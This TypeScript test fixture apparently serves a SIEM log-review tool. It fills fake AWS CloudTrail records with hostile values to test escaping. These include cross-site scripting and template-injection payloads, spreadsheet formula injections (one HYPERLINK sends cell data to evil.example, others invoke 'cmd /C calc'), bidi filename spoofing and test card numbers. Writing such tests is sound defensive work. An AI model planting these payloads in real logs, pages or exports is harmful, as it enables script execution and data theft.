// Copyright SIEM Review contributors
// SPDX-License-Identifier: Apache-2.0

export const HOSTILE_INDEX = 'log-aws-cloudtrail-hostiletest-2024-02';
export const HOSTILE_PERIOD = 'from=2024-02-01T00:00:00.000Z&to=2024-02-03T00:00:00.000Z';
const ACCOUNT = '999988887777';
/** The role whose page is looked at; what it did is hostile. */
export const HOSTILE_ROLE = `arn:aws:iam::${ACCOUNT}:role/hostile`;

export const PAN = '4111111111111111';
export const OTHER_PAN = '5555 5555 5555 4444';

/** What stands in logs when somebody wants it to: no right in AWS is needed for a user agent or a session name. */
export const HOSTILE_VALUES = {
  image: '<img src=x onerror="window.__pwned=1">',
  script: '"><script>window.__pwned=1</script>',
  svg: "'><svg/onload=window.__pwned=1>",
  template: "{{constructor.constructor('window.__pwned=1')()}}${window.__pwned=1}",
  message: '{role} {count, plural, one {#} other {#}} %s $1',
  address: 'javascript:window.__pwned=1',
  ansi: '\u001B[31mred\u001B[0m\u0007',
  lines: 'one\r\ntwo\tthree\u2028four',
  nul: 'before\u0000after',
  bidi: 'invoice\u202Egpj.exe\u2066x\u2069',
  widthless: 'ad\u00ADmin\u200Bistrator\uFEFF',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-1+cmd|' /C calc'!A0",
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  wide: '＝1+1',
  prototype: '__proto__',
  object: '[object Object]',
  card: `card ${PAN} end`,
  spaced: `card ${OTHER_PAN} end`,
  long: `${'long'.repeat(50)}!`,
  combining: `Z${'\u0300'.repeat(60)}`,
  empty: ' ',
};

export function hostileRecords(): Array<{ id: string; record: unknown }> {
  const values = Object.entries(HOSTILE_VALUES);
  const inRole = values.map(([name, value], place) => ({
    id: `hostile-${name}`,
    record: record({ place, role: HOSTILE_ROLE, value }),
  }));
  const roles = values.map(([name, value], place) => ({
    id: `hostile-role-${name}`,
    record: record({ place, role: `arn:aws:iam::${ACCOUNT}:role/${value}`, value: 'plain' }),
  }));
  return [...inRole, ...roles];
}

function record({ place, role, value }: { place: number; role: string; value: string }): unknown {
  return {
    '@timestamp': `2024-02-01T${String(place % 24).padStart(2, '0')}:00:00Z`,
    '@message': value,
    eventID: `hostile-${place}-${role.length}`,
    eventSource: value,
    eventName: value,
    eventType: 'AwsApiCall',
    eventCategory: 'Management',
    awsRegion: value,
    userAgent: value.repeat(20),
    userIdentity: {
      type: 'AssumedRole',
      arn: `arn:aws:sts::${ACCOUNT}:assumed-role/hostile/${value}`,
      invokedBy: value,
      sessionContext: { sessionIssuer: { type: 'Role', arn: role, userName: value } },
    },
    user: { name: value },
    user_agent: { original: value.repeat(20) },
    source: { address: value },
    resources: [{ ARN: value, type: value }],
    cloud: { account: { id: ACCOUNT }, region: value },
    errorCode: 'AccessDenied',
    errorMessage: `User: ${value} is not authorized to perform: s3:GetObject on resource: ${value.replace(/\s/g, '')} because no identity-based policy allows the s3:GetObject action ${value}`,
    event: { outcome: 'failure', ingested: '2024-02-01T23:59:00Z' },
  };
}
